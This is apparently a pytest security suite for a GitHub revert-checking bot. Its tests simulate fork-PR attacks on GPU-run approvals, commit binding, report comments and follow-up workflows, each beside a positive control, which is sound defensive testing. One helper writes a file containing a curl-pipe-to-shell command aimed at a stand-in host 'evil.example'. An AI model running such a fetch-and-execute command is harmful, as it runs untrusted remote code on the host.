"""Attacks on who may approve GPU runs, on which commit an approval and a result belong to, on
the report comment, and on the fork follow-up; each runs the real CLI against the loopback
GitHub server and shows the attack now does no harm (with a positive control beside it).
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from revertbot.cli.main import run_cli
from revertbot.report import MARKER
from tests.github_server import FakeGitHub, World, build_world, read_outputs
from tests.test_reliability_abuse import EMPTY, LABEL, act, labeled, make_fork, matrix, reports


@pytest.fixture
def world(gh: FakeGitHub, tmp_path: Path) -> World:
    w = build_world(gh, tmp_path)
    w.repo.permissions.update({"maintainer": "maintain", "triager": "triage", "reader": "read"})
    return w


def push_to_fork(world: World, number: int = 140) -> str:
    """The fork author pushes one more commit (unreviewed code) onto the PR."""
    repo = world.demo.path
    subprocess.run(["git", "checkout", "-q", world.demo.revert], cwd=repo, check=True)
    (repo / "evil.py").write_text("import os\nos.system('curl evil.example | sh')\n")
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-qm", "tweak"], cwd=repo, check=True)
    sha = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True).stdout.strip()
    world.push(sha, f"refs/pull/{number}/head")
    world.repo.pulls[number]["head"]["sha"] = sha
    return sha


def gpu_summary(tmp: Path) -> Path:
    path = tmp / "gpu-summary.json"
    path.write_text(json.dumps({"suites": ["graph-capture"], "hardware": "H200", "passed_both": 4,
                                "fixed": [], "broken": [], "metrics": []}))  # fmt: skip
    return path


def comment(world: World, body: str, user: str, association: str = "MEMBER", number: int = 140) -> Path:
    path: Path = world.comment_event(body, user, association, number=number)
    return path


# --------------------------------------------------------------------------- approvals bind a commit


def test_comment_approval_of_a_fork_pr_must_name_the_head(world: World, monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    make_fork(world)
    assert act(monkeypatch, world.env("issue_comment", comment(world, "/revertbot check", "maintainer"))) == 0
    assert matrix(world) == EMPTY
    assert f"/revertbot check {world.demo.revert}" in capsys.readouterr().out
    # A prefix is not a commit anyone reviewed.
    short = comment(world, f"/revertbot check {world.demo.revert[:12]}", "maintainer")
    assert act(monkeypatch, world.env("issue_comment", short)) == 0
    assert matrix(world) == EMPTY
    # Positive control: the full head commit.
    full = comment(world, f"/revertbot check {world.demo.revert}", "maintainer")
    assert act(monkeypatch, world.env("issue_comment", full)) == 0
    assert [e["suite"] for e in matrix(world)["include"]] == ["graph-capture"]
    assert read_outputs(world.tmp / "github_output")["head_sha"] == world.demo.revert


def test_push_between_the_approving_comment_and_the_run(world: World, monkeypatch: pytest.MonkeyPatch,
                                                        capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    make_fork(world)
    event = comment(world, f"/revertbot check {world.demo.revert}", "maintainer")
    pushed = push_to_fork(world)  # lands while the run is queued
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert matrix(world) == EMPTY
    assert "new commits need a new approval" in capsys.readouterr().out
    assert read_outputs(world.tmp / "github_output")["head_sha"] == pushed


def test_gpu_results_never_reach_a_later_head(world: World, monkeypatch: pytest.MonkeyPatch,
                                              capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    """The GPU jobs ran on the approved head; a push lands before the report job publishes."""
    make_fork(world, labels=(LABEL,))
    event = labeled(world, "maintainer")
    summary = gpu_summary(world.tmp)
    pushed = push_to_fork(world)
    for k, v in world.env("pull_request_target", event).items():
        monkeypatch.setenv(k, v)
    assert run_cli(["action", "--gpu-summary", str(summary), "--gpu-head", world.demo.revert]) == 0
    # Only the commit the results ran on gets a status; the PR's comment shows nothing of them.
    assert {r.path for r in world.gh.writes()} == {f"/repos/demo-org/minisgl/statuses/{world.demo.revert}"}
    assert reports(world, 140) == [] and pushed not in world.repo.statuses
    # A run that reads the PR now (a comment's run) drops them before analysing.
    world.gh.reset_log()
    for k, v in world.env("issue_comment", comment(world, f"/revertbot check {pushed}", "maintainer")).items():
        monkeypatch.setenv(k, v)
    assert run_cli(["action", "--gpu-summary", str(summary), "--gpu-head", world.demo.revert]) == 0
    assert world.gh.writes() == [] and reports(world, 140) == []
    assert "not published" in capsys.readouterr().out
    # The head is required, and whole.
    assert run_cli(["action", "--gpu-summary", str(summary)]) == 2
    assert run_cli(["action", "--gpu-summary", str(summary), "--gpu-head", world.demo.revert[:12]]) == 2


def test_gpu_results_for_the_current_head_are_published(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    make_fork(world, labels=(LABEL,))
    env = world.env("pull_request_target", labeled(world, "maintainer"))
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    assert run_cli(["action", "--gpu-summary", str(gpu_summary(world.tmp)), "--gpu-head", world.demo.revert]) == 0
    [report] = reports(world, 140)
    assert "H200" in report["body"]
    state = world.repo.statuses[world.demo.revert][-1]
    # The world's own #108 has the same head: one commit status cannot be green for both.
    assert state["state"] in ("pending", "failure")
    assert state["state"] == "failure" or state["description"].startswith("not green: #108 has the same head commit")
    world.repo.pulls[108]["state"] = "closed"
    assert run_cli(["action", "--gpu-summary", str(gpu_summary(world.tmp)), "--gpu-head", world.demo.revert]) == 0
    assert world.repo.statuses[world.demo.revert][-1]["state"] in ("success", "failure")


def test_gate_needs_the_full_approved_commit(world: World, monkeypatch: pytest.MonkeyPatch,
                                             capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    make_fork(world, labels=(LABEL,))
    for k, v in world.env("pull_request_target", labeled(world, "maintainer")).items():
        monkeypatch.setenv(k, v)
    base = ["gpu", "gate", "--pr", "140", "--event", "pull_request_target", "--approval-label", LABEL]
    assert run_cli([*base, "--head", world.demo.revert[:12]]) == 4
    assert "full commit id" in capsys.readouterr().err
    assert run_cli([*base, "--head", world.demo.revert]) == 0
    push_to_fork(world)
    assert run_cli([*base, "--head", world.demo.revert]) == 4


def test_a_stale_run_does_not_overwrite_the_newer_heads_comment(world: World, monkeypatch: pytest.MonkeyPatch
                                                                ) -> None:  # fmt: skip
    """Runs of different heads are not serialised (so none can be cancelled by another): the run of
    an older head that finishes last writes only its own commit status."""
    event = world.pr_event("synchronize")  # head = demo.revert
    world.repo.pulls[108]["head"]["sha"] = world.demo.original  # a newer push, as far as GitHub knows
    assert act(monkeypatch, world.env("pull_request", event)) == 0
    assert reports(world) == [] and world.repo.issue_labels[108] == []
    assert world.repo.statuses[world.demo.revert][-1]["state"] == "pending"


def test_a_new_head_clears_the_previous_verdict(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.gh.ensure_label(world.repo, "purity:pure")
    world.gh.ensure_label(world.repo, "risk:low")
    world.repo.issue_labels[108] = ["revert", "purity:pure", "risk:low"]
    # The analysis then fails (GitHub is down for the rest of the run): no verdict is better than a stale one.
    world.gh.inject("status", method="GET", path=r"/pulls/108/commits", status=502, times=-1)
    act(monkeypatch, world.env("pull_request", world.pr_event("synchronize")))
    assert "purity:pure" not in world.repo.issue_labels[108] and "risk:low" not in world.repo.issue_labels[108]


# --------------------------------------------------------------------------- who may approve


@pytest.mark.parametrize("user", ["triager", "reader"])
def test_member_association_without_write_access_cannot_run(world: World, monkeypatch: pytest.MonkeyPatch,
                                                            user: str) -> None:  # fmt: skip
    # MEMBER (org member) and COLLABORATOR include read and triage access.
    for association in ("MEMBER", "COLLABORATOR"):
        event = comment(world, "/revertbot check", user, association, number=108)
        assert act(monkeypatch, world.env("issue_comment", event)) == 0
        assert matrix(world) == EMPTY and reports(world) == []
    assert world.gh.requests("GET", rf"/collaborators/{user}/permission$")


def test_allowed_users_are_matched_by_id_not_by_login(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    uid = world.gh.user("release-manager")["id"]
    cfg = world.demo.path / ".revertbot.yml"
    cfg.write_text(cfg.read_text().replace("\ngpu:\n", f"\ngpu:\n  allowed_users: [release-manager, '{uid + 1}']\n", 1))
    subprocess.run(["git", "commit", "-qam", "Allow the release manager"], cwd=world.demo.path, check=True)
    world.push("HEAD", "refs/heads/main")
    # Someone who registered the login after a rename: the login alone does not count.
    event = comment(world, "/revertbot check", "release-manager", "NONE", number=108)
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert matrix(world) == EMPTY and reports(world) == []
    # Positive control: the id listed.
    cfg.write_text(cfg.read_text().replace(f"'{uid + 1}'", f"'{uid}'"))
    subprocess.run(["git", "commit", "-qam", "Fix the id"], cwd=world.demo.path, check=True)
    world.push("HEAD", "refs/heads/main")
    event = comment(world, "/revertbot check", "release-manager", "NONE", number=108)
    assert act(monkeypatch, world.env("issue_comment", event)) == 0
    assert matrix(world)["include"] and len(reports(world)) == 1


def test_unauthorised_commands_get_one_reply_per_pr(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    for user in ("mallory", "mallory", "eve", "reader"):
        event = comment(world, "/revertbot check", user, "NONE", number=108)
        assert act(monkeypatch, world.env("issue_comment", event)) == 0
    replies = [c for c in world.comments() if c["user"]["login"] == "github-actions[bot]"]
    assert len(replies) == 1
    assert [r.method for r in world.gh.writes()] == ["POST"]


# --------------------------------------------------------------------------- the report comment


@pytest.mark.parametrize(("author", "association"), [("other-app[bot]", "NONE"), ("priya", "MEMBER")])
def test_a_comment_by_anyone_else_carrying_the_marker_is_not_taken_over(
        world: World, monkeypatch: pytest.MonkeyPatch, author: str, association: str) -> None:  # fmt: skip
    planted = world.gh.add_comment(world.repo, 108, author, f"{MARKER}\nplanted", association)
    assert act(monkeypatch, world.env("pull_request", world.pr_event("opened"))) == 0
    assert planted["body"] == f"{MARKER}\nplanted"  # neither edited nor deleted
    assert planted in world.comments()
    ours = [c for c in reports(world) if c["user"]["login"] == "github-actions[bot]"]
    assert len(ours) == 1


def test_the_bot_identity_can_be_named(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    # A GitHub App token writes as the app: its earlier report is edited, not duplicated.
    world.gh.add_comment(world.repo, 108, "revertbot-app[bot]", f"{MARKER}\nold", "NONE")
    env = world.env("pull_request", world.pr_event("opened"), REVERTBOT_BOT_LOGIN="revertbot-app[bot]")
    assert act(monkeypatch, env) == 0
    [report] = [c for c in reports(world) if c["user"]["login"] == "revertbot-app[bot]"]
    assert report["body"] != f"{MARKER}\nold"


def test_expect_head_is_required_and_exact(world: World, monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    monkeypatch.setenv("GITHUB_API_URL", world.gh.base_url)
    monkeypatch.setenv("GITHUB_TOKEN", "t")
    monkeypatch.setenv("XDG_CACHE_HOME", str(world.tmp / "cache"))
    spec = "demo-org/minisgl#108"
    assert run_cli(["check", spec, "--post"]) == 2
    assert run_cli(["check", spec, "--post", "--expect-head", world.demo.revert[:7]]) == 2
    assert run_cli(["check", spec, "--post", "--expect-head", world.demo.original]) == 4
    assert world.gh.writes() == []
    assert run_cli(["check", spec, "--post", "--expect-head", world.demo.revert]) == 0
    assert len(reports(world)) == 1


# --------------------------------------------------------------------------- the fork follow-up


def workflow_run(world: World, head_repo: str, branch: str, sha: str, **extra: Any) -> Path:
    payload = {"action": "completed", "workflow_run": {
        "id": 99, "event": "pull_request", "conclusion": "success", "head_sha": sha, "head_branch": branch,
        "head_repository": {"full_name": head_repo}, "pull_requests": [], **extra}}  # fmt: skip
    path: Path = world.event("workflow_run", payload)
    return path


def test_fork_follow_up_maps_the_pr_from_the_runs_own_head(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """An attacker's fork PR reuses the victim's head commit; its run's artifact would name the
    victim's PR. The follow-up takes the PR from the run's head repository and branch instead."""
    make_fork(world)  # the victim: contributor/minisgl:revert-it, #140
    attacker = world.gh.add_repo("mallory/minisgl", "file:///nonexistent/mallory.git")
    world.gh.add_pull(world.repo, 150, "Revert something", body="Reverts demo-org/minisgl#101\n",
                      head_sha=world.demo.revert, head_ref="same-commit", user="mallory",
                      association="NONE", head_repo=attacker)  # fmt: skip
    world.push(world.demo.revert, "refs/pull/150/head")
    event = workflow_run(world, "mallory/minisgl", "same-commit", world.demo.revert)
    assert act(monkeypatch, world.env("workflow_run", event)) == 0
    assert reports(world, 140) == [] and world.comments(140) == []
    assert len(reports(world, 150)) == 1
    assert matrix(world) == EMPTY  # never GPU jobs from a fork's run


def test_fork_follow_up_publishes_nothing_for_an_old_or_unknown_head(world: World, monkeypatch: pytest.MonkeyPatch
                                                                     ) -> None:  # fmt: skip
    make_fork(world)
    for event in (workflow_run(world, "contributor/minisgl", "revert-it", world.demo.original),
                  workflow_run(world, "contributor/minisgl", "other-branch", world.demo.revert),
                  workflow_run(world, "someone/minisgl", "revert-it", world.demo.revert)):  # fmt: skip
        assert act(monkeypatch, world.env("workflow_run", event)) == 0
    assert world.gh.writes() == []
    # Positive control.
    event = workflow_run(world, "contributor/minisgl", "revert-it", world.demo.revert)
    assert act(monkeypatch, world.env("workflow_run", event)) == 0
    assert len(reports(world, 140)) == 1


def test_fork_follow_up_refuses_gpu_results(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    make_fork(world)
    event = workflow_run(world, "contributor/minisgl", "revert-it", world.demo.revert)
    for k, v in world.env("workflow_run", event).items():
        monkeypatch.setenv(k, v)
    assert run_cli(["action", "--gpu-summary", str(gpu_summary(world.tmp)), "--gpu-head", world.demo.revert]) == 2
    assert world.gh.writes() == []


# --------------------------------------------------------------------------- the threat model's references


def test_every_test_the_threat_model_names_exists() -> None:
    import re

    root = Path(__file__).resolve().parent
    text = (root.parent / "docs" / "SECURITY.md").read_text(encoding="utf-8")
    current, checked = "", 0
    # A reference without a file ("::test_x") belongs to the file named last before it.
    for match in re.finditer(r"`(?P<file>\w+\.py)?::(?P<test>\w+)`", text):
        current = match.group("file") or current
        source = (root / current).read_text(encoding="utf-8")
        assert re.search(rf"^def {match.group('test')}\(", source, re.M), f"{current}::{match.group('test')}"
        checked += 1
    assert checked >= 30


def test_a_run_without_a_verdict_leaves_no_stale_one(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """A fork PR labelled pure is pushed to until it is no revert at all; the follow-up of its
    read-only run (which could not write) removes the old verdict."""
    fork = world.gh.add_repo("contributor/minisgl", "file:///nonexistent/fork.git")
    world.gh.add_pull(world.repo, 141, "Tune the scheduler", body="Faster.", head_sha=world.demo.original,
                      head_ref="tune", user="contributor", association="CONTRIBUTOR", head_repo=fork,
                      labels=("revert", "purity:pure", "risk:low", "bug"))  # fmt: skip
    world.gh.add_pull_commit(world.repo, 141, world.demo.original, "Tune the scheduler")
    world.push(world.demo.original, "refs/pull/141/head")
    event = workflow_run(world, "contributor/minisgl", "tune", world.demo.original)
    assert act(monkeypatch, world.env("workflow_run", event)) == 0
    assert world.repo.issue_labels[141] == ["revert", "bug"]
    assert reports(world, 141) == []
